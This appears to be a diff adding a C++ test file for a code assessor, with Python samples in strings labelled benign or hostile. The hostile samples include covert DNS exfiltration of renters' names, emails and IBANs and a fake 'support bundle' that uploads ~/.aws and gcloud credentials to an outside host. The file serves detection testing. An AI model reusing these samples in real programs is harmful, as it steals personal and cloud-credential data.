@@ -1,0 +1,190 @@
+// The classes the twenty-sixth session modelled (issue 14), from the tune
+// part of the hundred-and-twelfth round (tests/corpus/prog116_MANIFEST.tsv):
+// programs written from the rubric alone by writers who never saw the
+// assessor. Strings here are never executed.
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+// `[*labels, f"s{seq}", ZONE]`: a list display whose splat has unknown
+// length kept only its first elements, so the name looked up lost the zone
+// it ends in and the data in its labels was not seen leaving through DNS.
+// The known end after the unknown elements is the list's end now. A name
+// built from what the user typed stays an ordinary lookup.
+TEST(HundredAndTwelfthRoundClasses, ANameBuiltAroundAnUnknownListEndsInItsZone) {
+  const Case cases[] = {
+      {"a renter's name, email and IBAN, base32-encoded into the labels of a name looked up under a licence zone", B,
+       "import base64\n"
+       "import csv\n"
+       "import socket\n"
+       "\n"
+       "ZONE = \"seat.chairledger-lic.net\"\n"
+       "\n"
+       "\n"
+       "def labels_of(blob):\n"
+       "    enc = base64.b32encode(blob).decode().rstrip(\"=\").lower()\n"
+       "    return [enc[i:i + 60] for i in range(0, len(enc), 60)]\n"
+       "\n"
+       "\n"
+       "def licence_ok(row, seq):\n"
+       "    seat = f\"{row['station']}|{row['name']}|{row['iban']}\".encode()\n"
+       "    labels = labels_of(seat)\n"
+       "    name = \".\".join([*labels, f\"s{seq}\", ZONE])\n"
+       "    try:\n"
+       "        socket.getaddrinfo(name, None, socket.AF_INET)\n"
+       "        return True\n"
+       "    except socket.gaierror:\n"
+       "        return False\n"
+       "\n"
+       "\n"
+       "with open(\"renters.csv\", newline=\"\") as fh:\n"
+       "    for seq, row in enumerate(csv.DictReader(fh)):\n"
+       "        if licence_ok(row, seq):\n"
+       "            print(\"licensed\", row[\"station\"])\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"the same lookup built from a station code the user gives", L,
+       "import sys\n"
+       "import socket\n"
+       "\n"
+       "ZONE = \"seat.chairledger-lic.net\"\n"
+       "\n"
+       "\n"
+       "def licence_ok(station, seq):\n"
+       "    labels = [part.lower() for part in station.split(\"-\")]\n"
+       "    name = \".\".join([*labels, f\"s{seq}\", ZONE])\n"
+       "    try:\n"
+       "        socket.getaddrinfo(name, None, socket.AF_INET)\n"
+       "        return True\n"
+       "    except socket.gaierror:\n"
+       "        return False\n"
+       "\n"
+       "\n"
+       "for seq, station in enumerate(sys.argv[1:]):\n"
+       "    if licence_ok(station, seq):\n"
+       "        print(\"licensed\", station)\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `workdir / Path(rel).expanduser()` where rel is a file found under
+// Path.home(): joining an absolute path gives that path, and "~/" is the
+// home directory, absolute. A path joined to a few bases and a few names
+// keeps every combination a value can hold (was four), so the credentials
+// directories listed after four log files are still there.
+TEST(HundredAndTwelfthRoundClasses, HomePathsJoinedUnderAnyBaseAreTheHomePaths) {
+  const Case cases[] = {
+      {"a support bundle that adds every file of ~/.aws and ~/.config/gcloud, joined under the working directory, and posts it", B,
+       "from pathlib import Path\n"
+       "import argparse, base64, json, requests\n"
+       "SYNC = (\".aws\", \".config/gcloud\")\n"
+       "def profile():\n"
+       "    home = Path.home()\n"
+       "    found = []\n"
+       "    for name in SYNC:\n"
+       "        d = home / name\n"
+       "        if d.is_dir():\n"
+       "            found.extend(str(p) for p in d.iterdir() if p.is_file())\n"
+       "    return found\n"
+       "def gather(workdir, include):\n"
+       "    files = {}\n"
+       "    for rel in include:\n"
+       "        p = workdir / Path(rel).expanduser()\n"
+       "        if not p.exists():\n"
+       "            continue\n"
+       "        targets = sorted(p.rglob(\"*\")) if p.is_dir() else [p]\n"
+       "        for t in targets:\n"
+       "            files[str(t)] = base64.b64encode(t.read_bytes()).decode()\n"
+       "    return files\n"
+       "ap = argparse.ArgumentParser()\n"
+       "ap.add_argument(\"--include\", action=\"append\")\n"
+       "ap.add_argument(\"--workdir\", default=\".\", type=Path)\n"
+       "args = ap.parse_args()\n"
+       "include = [\"logs/tracker.log\", \"logs/sync.log\", \"logs/scheduler.log\", \"tracker.ini\"] + (args.include or [])\n"
+       "include += profile()\n"
+       "requests.post(\"https://api.visittracker.example.org/v2/support\", data=json.dumps({\"files\": gather(args.workdir.resolve(), include)}), timeout=20)\n",
+       "EXFILTRATION"},
+      {"the same bundle over the program's own state directory in the working directory", L,
+       "from pathlib import Path\n"
+       "import argparse, base64, json, requests\n"
+       "SYNC = (\".cache/visit-tracker\", \".local/state/visit-tracker\")\n"
+       "def profile():\n"
+       "    home = Path(\"state\")\n"
+       "    found = []\n"
+       "    for name in SYNC:\n"
+       "        d = home / name\n"
+       "        if d.is_dir():\n"
+       "            found.extend(str(p) for p in d.iterdir() if p.is_file())\n"
+       "    return found\n"
+       "def gather(workdir, include):\n"
+       "    files = {}\n"
+       "    for rel in include:\n"
+       "        p = workdir / Path(rel).expanduser()\n"
+       "        if not p.exists():\n"
+       "            continue\n"
+       "        targets = sorted(p.rglob(\"*\")) if p.is_dir() else [p]\n"
+       "        for t in targets:\n"
+       "            files[str(t)] = base64.b64encode(t.read_bytes()).decode()\n"
+       "    return files\n"
+       "ap = argparse.ArgumentParser()\n"
+       "ap.add_argument(\"--include\", action=\"append\")\n"
+       "ap.add_argument(\"--workdir\", default=\".\", type=Path)\n"
+       "args = ap.parse_args()\n"
+       "include = [\"logs/tracker.log\", \"logs/sync.log\", \"logs/scheduler.log\", \"tracker.ini\"] + (args.include or [])\n"
+       "include += profile()\n"
+       "requests.post(\"https://api.visittracker.example.org/v2/support\", data=json.dumps({\"files\": gather(args.workdir.resolve(), include)}), timeout=20)\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `[*self.prefix, "ls", ...]` where the prefix is one of two known lists:
+// the command is each of the lists it can be, not the known words followed
+// by unknown ones (sudo was lost at the end).
+TEST(HundredAndTwelfthRoundClasses, ASplatOfOneOfAFewKnownListsIsEachOfThem) {
+  const Case cases[] = {
+      {"a command whose prefix is sudo -n or nothing", H,
+       "import subprocess\n"
+       "import sys\n"
+       "\n"
+       "\n"
+       "class Lister:\n"
+       "    \"\"\"Lists a directory, through sudo when asked.\"\"\"\n"
+       "\n"
+       "    def __init__(self, use_sudo=False):\n"
+       "        self.prefix = [\"sudo\", \"-n\"] if use_sudo else []\n"
+       "\n"
+       "    def run(self, *args):\n"
+       "        cmd = [*self.prefix, \"ls\", \"-l\", *args]\n"
+       "        return subprocess.run(cmd, check=False).returncode\n"
+       "\n"
+       "\n"
+       "if __name__ == \"__main__\":\n"
+       "    sys.exit(Lister(use_sudo=\"--sudo\" in sys.argv).run(\"/var/log\"))\n",
+       "PRIVILEGE-ESCALATION"},
+      {"the same command whose prefix is nice -n 10 or nothing", M,
+       "import subprocess\n"
+       "import sys\n"
+       "\n"
+       "\n"
+       "class Lister:\n"
+       "    \"\"\"Lists a directory, at a low priority when asked.\"\"\"\n"
+       "\n"
+       "    def __init__(self, low=False):\n"
+       "        self.prefix = [\"nice\", \"-n\", \"10\"] if low else []\n"
+       "\n"
+       "    def run(self, *args):\n"
+       "        cmd = [*self.prefix, \"ls\", \"-l\", *args]\n"
+       "        return subprocess.run(cmd, check=False).returncode\n"
+       "\n"
+       "\n"
+       "if __name__ == \"__main__\":\n"
+       "    sys.exit(Lister(low=\"--nice\" in sys.argv).run(\"/var/log\"))\n",
+       "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
